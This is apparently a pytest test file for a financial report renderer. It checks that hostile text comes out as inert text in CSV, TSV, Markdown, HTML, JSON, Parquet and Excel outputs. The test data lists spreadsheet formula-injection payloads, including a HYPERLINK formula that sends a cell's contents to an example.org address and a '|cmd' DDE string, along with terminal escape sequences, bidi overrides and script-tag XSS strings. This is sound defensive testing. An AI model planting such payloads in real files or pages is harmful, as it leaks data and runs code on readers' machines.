"""Texts that would steer a spreadsheet, a terminal, a browser or a reader of rows come out as mere texts."""

from __future__ import annotations

import io
import json
import re
import zipfile
from dataclasses import replace
from decimal import Decimal

import openpyxl
import pytest
from report_readers import ROWS, items_of_json, rows_of_csv, rows_of_parquet, rows_of_tsv, rows_of_xlsx

from fundnorm.model.item import Assumption, LineItem
from fundnorm.model.mention import Document, Mention
from fundnorm.model.money import Amount
from fundnorm.model.source import Source
from fundnorm.report import csv as csv_report
from fundnorm.report.formats import Format, render

FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "=1+1|cmd",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]
OTHERS = [
    "\x1b]8;;https://example.org\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x07\x9b31m",
    "<script>alert(1)</script>",
    "&lt;b&gt; &#60; R&D",
    "a | b || c",
    "one\ntwo\r\nthree\rfour",
    "a\tb\\tc\\",
    '"quoted" and "open',
    "nul\x00nul",
    "half \ud83d pair",
    "\u202eright to left\u2066",
    "_x0041_ and _x000D_",
    "\ufffe\uffff",
    "#REF!",
    "[x](javascript:alert(1)) ![y](z)",
]
HOSTILE = [*FORMULAS, *OTHERS]


def results(text: str) -> list[tuple[Document, list[LineItem]]]:
    """Two items whose words, label, document and remarks are all the text."""
    mention = Mention(text, 0, len(text), Amount.stated(Decimal(5000000), "USD"), label=text)
    item = LineItem(text, 1, mention, None, Decimal(5), Decimal(5), assumptions=(Assumption("start", text),))
    items = [item, replace(item, number=2)]
    return [(Document(Source(text, name=text, title=text), (mention, mention)), items)]


def escaped(text: str) -> str:
    return text.encode("utf-8", "backslashreplace").decode("utf-8")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("style", [Format.TABLE, Format.MARKDOWN, Format.HTML])
def test_no_control_character_reaches_a_reader(style: Format, text: str) -> None:
    shown = str(render(style, results(text)))
    assert re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", shown) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_shows_the_text_and_keeps_its_columns(text: str) -> None:
    shown = str(render(Format.MARKDOWN, results(text)))
    lines = [line for line in shown.splitlines() if line.startswith("|")]
    assert len(lines) == 4
    assert len({len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in lines}) == 1
    assert re.findall(r"(?<!\\)<|(?<!\\)&\w+;|(?<!\\)\[", shown) == []


def test_html_has_no_element_from_a_text() -> None:
    shown = str(render(Format.HTML, results("<script>alert(1)</script><img src=x onerror=alert(1)>")))
    assert "<script>alert" not in shown
    assert "<img src=x" not in shown


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("style", [Format.CSV, Format.TSV])
def test_rows_hold_the_text_in_one_cell(style: Format, text: str) -> None:
    report = escaped(str(render(style, results(text))))
    rows = ROWS[style.value](report)
    assert len(rows) == 2
    assert {row[name] for row in rows for name in ("doc", "text", "label")} == {
        escaped(csv_report.cell(text))
    }


@pytest.mark.parametrize("text", FORMULAS)
def test_rows_run_nothing_in_a_spreadsheet(text: str) -> None:
    assert rows_of_csv(str(render(Format.CSV, results(text))))[0]["text"] == f"'{text}"
    assert rows_of_tsv(str(render(Format.TSV, results(text))))[0]["text"] == f"'{text}"


@pytest.mark.parametrize("text", HOSTILE)
def test_tsv_has_a_line_a_row_and_a_tab_between_cells(text: str) -> None:
    lines = str(render(Format.TSV, results(text))).split("\n")
    assert len(lines) == 4
    assert {line.count("\t") for line in lines[:3]} == {lines[0].count("\t")}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("style", [Format.JSON, Format.JSONL])
def test_json_holds_the_text_untouched(style: Format, text: str) -> None:
    report = str(render(style, results(text)))
    report.encode("utf-8")
    assert [record["mention"]["label"] for record in items_of_json(report)] == [text, text]
    assert [record["assumptions"][0]["text"] for record in items_of_json(report)] == [text, text]


@pytest.mark.parametrize("text", HOSTILE)
def test_parquet_holds_the_text_untouched(text: str) -> None:
    report = render(Format.PARQUET, results(text))
    assert isinstance(report, bytes)
    assert [row["label"] for row in rows_of_parquet(report)] == [escaped(text)] * 2


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_has_texts_and_no_formulas(text: str) -> None:
    report = render(Format.XLSX, results(text))
    assert isinstance(report, bytes)
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if "worksheets" in name]
    assert len(sheets) == 5
    assert [sheet for sheet in sheets if b"<f>" in sheet or b'"e"' in sheet] == []
    for sheet in openpyxl.load_workbook(io.BytesIO(report)):
        assert [cell.coordinate for row in sheet for cell in row if cell.data_type in "fe"] == []


@pytest.mark.parametrize("text", FORMULAS[:5])
def test_a_cell_that_looks_like_a_formula_stays_a_text_when_it_is_edited(text: str) -> None:
    report = render(Format.XLSX, results(text))
    assert isinstance(report, bytes)
    book = openpyxl.load_workbook(io.BytesIO(report))
    cell = book["Items"]["C2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("one\ntwo\r\nthree\rfour", "one\ntwo\nthree\nfour"),
        ("nul\x00nul \x1b[2J", "nul␀nul ␛[2J"),
        ("half \ud83d pair", "half \\ud83d pair"),
        ("_x0041_ and _x000D_", "_x0041_ and _x000D_"),
        ("\ufffe\uffff", "\ufffd\ufffd"),
        ("a\tb", "a\tb"),
    ],
)
def test_what_a_cell_can_not_hold_is_shown(text: str, cell: str) -> None:
    report = render(Format.XLSX, results(text))
    assert isinstance(report, bytes)
    assert {row["text"] for row in rows_of_xlsx(report)} == {cell}


def test_a_text_beyond_the_longest_cell_is_cut_and_says_so() -> None:
    long = "₹" * 32_768
    report = render(Format.XLSX, results(long))
    assert isinstance(report, bytes)
    (told,) = {row["text"] for row in rows_of_xlsx(report)}
    assert len(told) == 32_767
    assert told.endswith("₹ … [cut: 32,768 characters]")
    whole = json.loads(str(render(Format.JSONL, results(long))).splitlines()[0])
    assert whole["mention"]["text"] == long


@pytest.mark.parametrize("text", ["x" * 32_767, "😀" * 16_383])
def test_a_text_of_the_longest_cell_is_whole(text: str) -> None:
    report = render(Format.XLSX, results(text))
    assert isinstance(report, bytes)
    assert rows_of_xlsx(report)[0]["text"] == text


def test_a_cut_leaves_no_half_of_a_pair() -> None:
    report = render(Format.XLSX, results("😀" * 20_000))
    assert isinstance(report, bytes)
    assert re.fullmatch(r"😀+ … \[cut: 20,000 characters\]", rows_of_xlsx(report)[0]["text"])
